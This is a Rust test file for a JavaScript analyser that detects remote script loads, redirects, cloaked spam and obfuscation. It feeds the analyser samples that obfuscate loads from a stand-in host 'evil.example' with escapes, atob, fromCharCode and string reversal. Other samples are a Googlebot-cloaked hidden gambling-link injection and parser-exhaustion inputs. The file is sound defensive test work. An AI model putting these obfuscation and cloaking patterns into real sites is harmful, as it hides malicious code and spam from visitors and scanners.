//! What scripts do and where they lead, also where it is put together from pieces.

use pages::{ScriptFacts, read_script};

fn names(facts: &ScriptFacts, origin: &str) -> bool {
    facts.origins.iter().any(|one| one == origin)
}

#[test]
fn origins_are_found_in_pieces() {
    let cases = [
        "load('https://evil.example/x')",
        r"load('https:\/\/evil.example\/x')",
        r"load('\x68\x74\x74\x70\x73\x3a\x2f\x2f\x65vil.example')",
        r"load('\u0068ttps://evil\u{2e}example')",
        "load('ht' + 'tps:' + '//evil' + '.example')",
        "var a = 'https://', b = 'evil', c = '.example'; load(a + b + c)",
        "var u = 'https:'; u += '//evil'; u += '.example/'; load(u)",
        "load(['https:', '', 'evil.example'].join('/'))",
        "load('elpmaxe.live//:sptth'.split('').reverse().join(''))",
        "load(String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101))",
        "load(String.fromCharCode.apply(null,[0x68,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101]))",
        "load(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU='))",
        "load(window.atob('aHR0cHM6Ly9ldmls' + 'LmV4YW1wbGU'))",
        "load(unescape('%68ttps%3A%2F%2Fevil.example'))",
        "load(decodeURIComponent('https%3A%2F%2Fevil.example'))",
        "load('httpsX//evilYexample'.replace('X', ':').replace(/Y/g, '.'))",
        "load('https://'.concat('evil').concat('.example'))",
        "var _a = ['https://', 'evil', '.example']; load(_a[0] + _a[1] + _a[2])",
        "eval(atob('bG9hZCgnaHR0cHM6Ly8nICsgJ2V2aWwuZXhhbXBsZScp'))",
        "load(('https://') + (('evil') + '.example'))",
    ];
    for code in cases {
        let facts = read_script(code);
        assert!(
            names(&facts, "https://evil.example"),
            "{code}: {:?}",
            facts.origins
        );
    }
}

#[test]
fn redirects_are_told_from_looking_where_one_is() {
    let redirects = [
        "location='https://a.example'",
        "window.location = x",
        "location.href = '//a.example'",
        "top.location.href='//a.example'",
        "location.replace('//a.example')",
        "self.location.assign(u)",
        "window['loc' + 'ation']['hr' + 'ef'] = u",
        "document.location = u",
        "window.open(u)",
        "document.write('<meta http-equiv=\"refresh\" content=\"0;url=//a.example\">')",
        "var f = document.createElement('form'); f.action = u; f.submit()",
        "var a = document.createElement('a'); a.href = u; a.click()",
    ];
    for code in redirects {
        assert!(read_script(code).signs.redirects, "{code}");
    }
    let looks = [
        "var here = location.href;",
        "if (location.href == home) show();",
        "if (window.location.pathname === '/') show();",
        "var path = location.href.replace('#', '');",
        "geolocation = find();",
        "share(encodeURIComponent(location.href));",
    ];
    for code in looks {
        assert!(!read_script(code).signs.redirects, "{code}");
    }
}

#[test]
fn other_signs_are_seen_and_plain_scripts_have_none() {
    let facts = read_script(
        "if(/googlebot/i.test(navigator.userAgent)||document.referrer){document.write('<div style=\"position:absolute;left:-9999px\"><a href=\"https://bet.example\">nhà cái uy tín</a></div>')}",
    );
    assert!(facts.signs.asks_visitor && facts.signs.adds && facts.signs.hides);
    assert_eq!(facts.terms[0].word, "nhà cái uy tín");
    assert!(
        read_script("var _0x1a=1,_0x2b=2,_0x3c=3,_0x4d=4,_0x5e=5,_0x6f=6;")
            .signs
            .decodes
    );
    let plain = read_script(
        "(function(e){var t=e.getElementById('menu');t.onclick=function(){t.classList.toggle('open')};\
         var re=/['\"]\\/x/;var names=['Một','Hai'].join(', ');slot(names)})(document)",
    );
    assert!(!plain.signs.any(), "{:?}", plain.signs);
    assert!(
        plain.origins.is_empty() && plain.terms.is_empty(),
        "{plain:?}"
    );
}

#[test]
fn scripts_made_to_cost_are_read_in_time() {
    let many = 200_000;
    for attack in [
        "a+".repeat(many),
        "'a'+".repeat(many),
        "(".repeat(many),
        ")".repeat(many),
        "[".repeat(many),
        "]".repeat(many),
        "['a'].reverse()".repeat(many / 10),
        format!("x='{}';{}", "y".repeat(1_000), "f(x+x);".repeat(many / 10)),
        format!(
            "b0='aaaaaaaaaa';{}",
            (0..5_000)
                .map(|n| format!("b{}=b{n}+b{n};", n + 1))
                .collect::<Vec<_>>()
                .concat()
        ),
        format!("a='x';{}", "a=a+a;".repeat(5_000)),
        format!("f({})", "1,".repeat(many)),
        format!("[{}]{}", "'a',".repeat(many / 4), ".join('')".repeat(1_000)),
        format!(
            "'{}'.split(''){}",
            "a".repeat(100_000),
            ".reverse()".repeat(2_000)
        ),
        "\\".repeat(many),
        "/*".repeat(many),
        "`${`".repeat(many),
        "atob('YQ==')".repeat(many / 10),
        "eval(".repeat(many / 5),
        "\\u{".repeat(many / 3),
        "'\\x".repeat(many / 3),
    ] {
        let started = std::time::Instant::now();
        read_script(&attack);
        let took = started.elapsed();
        let beginning: String = attack.chars().take(30).collect();
        assert!(
            took < std::time::Duration::from_secs(20),
            "{beginning}: {took:?}"
        );
    }
}
